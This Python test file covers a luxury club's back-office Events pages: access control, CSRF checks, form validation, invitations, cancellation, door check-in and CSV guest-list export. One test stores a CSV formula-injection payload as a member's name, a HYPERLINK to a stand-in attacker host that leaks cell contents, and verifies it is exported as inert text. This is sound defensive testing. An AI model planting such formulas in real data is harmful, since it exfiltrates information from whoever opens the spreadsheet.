"""The back office's Events pages over HTTP on a real database: the list and an event's
page, creating and editing from the form, inviting, cancelling with a confirmation, the
guest list as CSV, check-in at the door, the audit log; who may do it, and bad input answered
in one line with nothing changed."""

from __future__ import annotations

import csv
import io
import secrets
from datetime import timedelta

import httpx
import pytest

from bot.bootstrap import Concierge
from loyalty.membercard import ticket_payload
from loyalty.program import EventRules, Program
from loyalty.records import Member
from services import events, members, office, outbox
from services.wording import staff_speaker
from tests.storage.test_events import enrol
from tests.web.test_office import browser, csrf, member_of_staff

__all__ = ["browser", "program"]


@pytest.fixture
def program(program: Program) -> Program:
    """The demo club without its tier priority: every member may answer at once."""
    return program.model_copy(update={"events": EventRules()})


FORM = {
    "title": "Emerald preview", "kind": "trunk_show", "starts": "2026-11-24T18:30",
    "ends": "2026-11-24T21:00", "deadline": "", "capacity": "10", "plus_ones": "1",
    "place": "Via Montenapoleone 3", "description": "", "guests": "",
}  # fmt: skip  # NOW is 2026-11-24 11:00 in Rome: the event is today


async def signed(concierge: Concierge, browser: httpx.AsyncClient, role: str = "staff") -> str:
    """A member of staff signed in; a CSRF token of their browser."""
    await member_of_staff(concierge, browser, f"{role}@aurelia.example", role)
    return csrf(await browser.get("/office/events/new"))


async def an_event(concierge: Concierge, days: int = 0, **fields: object) -> int:
    now = concierge.clock()
    start = now.replace(hour=17) + timedelta(days=days)  # 18:00 in Rome
    given: dict[str, object] = {
        "title": "Emerald preview", "starts_at": start, "ends_at": start + timedelta(hours=3),
        "capacity": 10, **fields,
    }  # fmt: skip
    async with concierge.db.unit_of_work() as uow:
        event = await events.create(uow, concierge.program, now, **given)  # type: ignore[arg-type]
        await uow.commit()
        return event.id


async def going(concierge: Concierge, member: Member, event_id: int, plus_ones: int = 0) -> str:
    """`member` says yes; the text of their ticket, as its QR code carries it."""
    async with concierge.db.unit_of_work() as uow:
        await events.answer(
            uow, concierge.program, member, event_id, concierge.clock(), True, plus_ones
        )
        key = await members.qr_key(uow, lambda: secrets.token_urlsafe(32))
        await uow.commit()
    return ticket_payload(event_id, members.member_number(member.id), key)


async def audited(concierge: Concierge) -> list[str]:
    async with concierge.db.unit_of_work() as uow:
        return [e.action for e in await office.audit_log(uow) if e.action.startswith(("ev", "gu"))]


GETS = ["", "/new", "/1", "/1/edit", "/1/guests.csv", "/1/check-in"]
POSTS = ["/new", "/1/edit", "/1/invite", "/1/cancel", "/1/check-in"]


@pytest.mark.parametrize("path", GETS)
async def test_a_visitor_is_sent_to_sign_in(browser: httpx.AsyncClient, path: str) -> None:
    response = await browser.get(f"/office/events{path}")
    assert response.status_code == 303 and response.headers["location"] == "/office/sign-in"


@pytest.mark.parametrize("path", POSTS)
async def test_a_visitor_posting_with_a_token_is_sent_to_sign_in(
    concierge: Concierge, browser: httpx.AsyncClient, path: str
) -> None:
    await an_event(concierge)
    token = csrf(await browser.get("/office/sign-in"))
    response = await browser.post(f"/office/events{path}", data={**FORM, "csrf": token})
    assert response.status_code == 303 and response.headers["location"] == "/office/sign-in"


@pytest.mark.parametrize("path", POSTS)
async def test_a_form_without_its_csrf_token_is_refused_and_changes_nothing(
    concierge: Concierge, browser: httpx.AsyncClient, path: str
) -> None:
    event_id = await an_event(concierge)
    giulia = await enrol(concierge, 1)
    ticket = await going(concierge, giulia, event_id)
    await signed(concierge, browser)
    form = {**FORM, "confirm": "yes", "ticket": ticket}
    assert (await browser.post(f"/office/events{path}", data=form)).status_code == 403
    wrong = {**form, "csrf": "not-this-browsers"}
    assert (await browser.post(f"/office/events{path}", data=wrong)).status_code == 403
    page = await browser.get(f"/office/events/{event_id}")
    assert "(cancelled)" not in page.text and "Trunk show" not in page.text
    assert await audited(concierge) == []


@pytest.mark.parametrize("role", ["staff", "owner"])
async def test_staff_create_an_event_from_the_form_and_find_it_listed(
    concierge: Concierge, browser: httpx.AsyncClient, role: str
) -> None:
    giulia = await enrol(concierge, 1)
    token = await signed(concierge, browser, role)
    form = {**FORM, "csrf": token, "guests": "M00001", "tiers": ["gold", "platinum"]}
    created = await browser.post("/office/events/new", data=form)
    assert created.status_code == 303 and created.headers["location"] == "/office/events/1"
    page = await browser.get("/office/events/1")
    start = staff_speaker(concierge.program).day_and_time(
        concierge.clock().replace(hour=17, minute=30)
    )
    for shown in ("Emerald preview", "Trunk show", start, "Gold, Platinum",
                  'href="/office/members/M00001"', "Via Montenapoleone 3"):  # fmt: skip
        assert shown in page.text
    listed = await browser.get("/office/events")
    assert 'href="/office/events/1"' in listed.text.split("Past and cancelled")[0]
    async with concierge.db.unit_of_work() as uow:
        assert await uow.events.guests(1) == {giulia.id}
    assert await audited(concierge) == ["event-created 1"]


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ({"capacity": "-1"}, "Capacity must be a whole number"),
        ({"capacity": "0"}, "Capacity must be a whole number"),
        ({"capacity": "ten"}, "Capacity must be a whole number"),
        ({"plus_ones": "99999999999"}, "Capacity must be a whole number"),
        ({"title": "x" * 10_000}, "Give a title of 1 to 200 characters."),
        ({"title": "   "}, "Give a title of 1 to 200 characters."),
        ({"place": "y" * 10_000}, "Give a place of at most 200 characters"),
        ({"description": "z" * 10_000}, "Give a description of at most 2,000"),
        ({"kind": "rave"}, "Choose what kind of event it is."),
        ({"starts": "2026-11-23T18:30"}, "Check the times"),
        ({"ends": "2026-11-24T18:00"}, "Check the times"),
        ({"deadline": "2026-11-25T10:00"}, "Check the times"),
        ({"starts": "tomorrow"}, "Check the times"),
        ({"starts": "9" * 10_000}, "Check the times"),
        ({"tiers": "diamond"}, "Choose tiers, segments and badges"),
        ({"guests": "M99999"}, "The guest list must name members"),
        ({"guests": "M1 " * 5_000}, "The guest list must name members"),
    ],
)
async def test_bad_input_is_answered_in_one_line_and_nothing_is_created(
    concierge: Concierge, browser: httpx.AsyncClient, change: dict[str, str], problem: str
) -> None:
    await enrol(concierge, 1)
    token = await signed(concierge, browser)
    refused = await browser.post("/office/events/new", data={**FORM, "csrf": token, **change})
    assert refused.status_code == 422
    assert problem in refused.text and "Nothing was saved." in refused.text
    typed = {**FORM, **change}["capacity"]
    assert f'id="capacity" name="capacity" type="number" min="1" step="1" value="{typed}"' in (
        refused.text
    )  # what was typed is kept
    assert "No event to come." in (await browser.get("/office/events")).text
    assert await audited(concierge) == []


@pytest.mark.parametrize(
    "path", ["/99", "/0", "/abc", "/99/edit", "/99/guests.csv", "/99/check-in", "/1e3"]
)
async def test_an_unknown_event_is_a_page_saying_so(
    concierge: Concierge, browser: httpx.AsyncClient, path: str
) -> None:
    await an_event(concierge)
    await signed(concierge, browser)
    response = await browser.get(f"/office/events{path}")
    assert response.status_code == 404 and "This address names no event." in response.text


@pytest.mark.parametrize("path", ["/99/edit", "/99/invite", "/99/cancel", "/x/check-in"])
async def test_posting_to_an_unknown_event_changes_nothing(
    concierge: Concierge, browser: httpx.AsyncClient, path: str
) -> None:
    token = await signed(concierge, browser)
    form = {**FORM, "csrf": token, "confirm": "yes", "ticket": "EVT1:E99:M00001:" + "0" * 20}
    response = await browser.post(f"/office/events{path}", data=form)
    assert response.status_code in (404, 422) and "Emerald" not in response.text
    assert await audited(concierge) == []


async def test_editing_keeps_every_answer_whole_tells_the_guests_of_a_move_and_is_audited(
    concierge: Concierge, browser: httpx.AsyncClient
) -> None:
    event_id = await an_event(concierge, plus_ones=1)
    giulia = await enrol(concierge, 1)
    await going(concierge, giulia, event_id, plus_ones=1)  # two seats held
    token = await signed(concierge, browser)
    form = await browser.get(f"/office/events/{event_id}/edit")
    assert 'value="Emerald preview"' in form.text and 'value="2026-11-24T18:00"' in form.text
    path = f"/office/events/{event_id}/edit"
    for change in ({"capacity": "1"}, {"plus_ones": "0"}):
        refused = await browser.post(path, data={**FORM, "csrf": token, **change})
        assert refused.status_code == 422 and "cannot go below the seats" in refused.text
    edited = await browser.post(path, data={**FORM, "csrf": token, "title": "Sapphire night"})
    assert edited.status_code == 303
    page = await browser.get(f"/office/events/{event_id}")
    assert "Sapphire night" in page.text and "2 held of 10" in page.text
    assert "coming" in page.text.split('id="guests"')[1]
    assert await audited(concierge) == [f"event-edited {event_id}"]
    async with concierge.db.unit_of_work() as uow:
        told = [(row.kind, row.member_id) for row in await outbox.latest(uow, 10, None)]
    assert told == [("event_moved", giulia.id)]  # 18:00 became 18:30, and a place was given


async def test_invite_then_cancel_with_a_confirmation_tells_the_guests(
    concierge: Concierge, browser: httpx.AsyncClient
) -> None:
    event_id = await an_event(concierge)
    giulia = await enrol(concierge, 1)
    token = await signed(concierge, browser)
    invited = await browser.post(f"/office/events/{event_id}/invite", data={"csrf": token})
    assert invited.status_code == 200 and "1 invitations sent, 0 invited before." in invited.text
    await going(concierge, giulia, event_id)
    unconfirmed = await browser.post(f"/office/events/{event_id}/cancel", data={"csrf": token})
    assert unconfirmed.status_code == 422 and "tick the box to confirm" in unconfirmed.text
    assert "(cancelled)" not in unconfirmed.text
    form = {"csrf": token, "confirm": "yes"}
    cancelled = await browser.post(f"/office/events/{event_id}/cancel", data=form)
    assert "Cancelled: 1 of 1 members told." in cancelled.text and "(cancelled)" in cancelled.text
    again = await browser.post(f"/office/events/{event_id}/cancel", data=form)
    assert again.status_code == 409
    async with concierge.db.unit_of_work() as uow:
        kinds = [row.kind for row in await outbox.latest(uow, 10, None)]
    assert sorted(kinds) == ["event_cancelled", "invitation"]
    assert await audited(concierge) == [
        f"event-cancelled {event_id}",
        f"event-invited {event_id} 1",
    ]


async def test_the_guest_list_downloads_as_the_clis_csv(
    concierge: Concierge, browser: httpx.AsyncClient
) -> None:
    event_id = await an_event(concierge, plus_ones=2)
    ticket = await going(concierge, await enrol(concierge, 1), event_id, plus_ones=2)
    await signed(concierge, browser)
    await browser.post(
        f"/office/events/{event_id}/check-in",
        data={"csrf": csrf(await browser.get(f"/office/events/{event_id}")), "ticket": ticket},
    )
    download = await browser.get(f"/office/events/{event_id}/guests.csv")
    assert download.headers["content-type"].startswith("text/csv")
    assert "attachment" in download.headers["content-disposition"]
    assert download.text == (
        "member,name,answer,guests,checked_in\nM00001,Member 1,going,2,2026-11-24 11:00\n"
    )


async def test_a_name_that_would_run_as_a_formula_downloads_as_text(
    concierge: Concierge, browser: httpx.AsyncClient
) -> None:
    event_id = await an_event(concierge)
    member = await enrol(concierge, 1)
    async with concierge.db.unit_of_work() as uow:
        row = await uow.members.get(member.id)
        assert row is not None
        row.name = '=HYPERLINK("http://evil.example/?"&A1,"Prize")'
        await uow.commit()
    await going(concierge, member, event_id)
    await signed(concierge, browser)
    download = await browser.get(f"/office/events/{event_id}/guests.csv")
    assert list(csv.reader(io.StringIO(download.text)))[1] == [
        "M00001", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Prize\")", "going", "0", ""
    ]  # fmt: skip


async def test_check_in_at_the_door_answers_in_one_line(
    concierge: Concierge, browser: httpx.AsyncClient
) -> None:
    today, later = await an_event(concierge, plus_ones=1), await an_event(concierge, days=14)
    giulia, marc = await enrol(concierge, 1), await enrol(concierge, 2)
    ticket = await going(concierge, giulia, today, plus_ones=1)
    elsewhere = await going(concierge, marc, later)
    token = await signed(concierge, browser)
    door = await browser.get(f"/office/events/{today}/check-in")
    assert "The camera is not available here" in door.text and "BarcodeDetector" in door.text
    assert "<script src" not in door.text

    async def scan(event_id: int, text: str) -> httpx.Response:
        form = {"csrf": token, "ticket": text}
        return await browser.post(f"/office/events/{event_id}/check-in", data=form)

    came = await scan(today, ticket)
    assert came.status_code == 200 and "Checked in: Member 1, with 1 guest." in came.text
    at = staff_speaker(concierge.program).time(concierge.clock())
    assert f"Already checked in at {at}: Member 1." in (await scan(today, ticket)).text
    forged = ticket[:-1] + ("0" if ticket[-1] != "0" else "1")
    for text in (forged, "x" * 10_000, ""):
        refused = await scan(today, text)
        assert refused.status_code == 422 and "Not a ticket of this club" in refused.text
    other = await scan(today, elsewhere)
    assert other.status_code == 422 and "Not on this event: nothing recorded." in other.text
    early = await scan(later, elsewhere)
    day = staff_speaker(concierge.program).date(concierge.clock() + timedelta(days=14))
    assert f"Not today: this event is on {day}. Nothing recorded." in early.text
    page = await browser.get(f"/office/events/{today}")
    report = page.text.split('id="report"')[1]
    assert "<dt>Attended</dt><dd>1</dd>" in report and "100%" in report
    assert await audited(concierge) == [f"guest-checked-in {today} M00001"]


async def test_the_owner_reads_event_changes_in_the_audit_log(
    concierge: Concierge, browser: httpx.AsyncClient
) -> None:
    token = await signed(concierge, browser, "owner")
    await browser.post("/office/events/new", data={**FORM, "csrf": token})
    await browser.post("/office/events/1/cancel", data={"csrf": token, "confirm": "yes"})
    log = await browser.get("/office/audit")
    assert "event created 1" in log.text and "event cancelled 1" in log.text
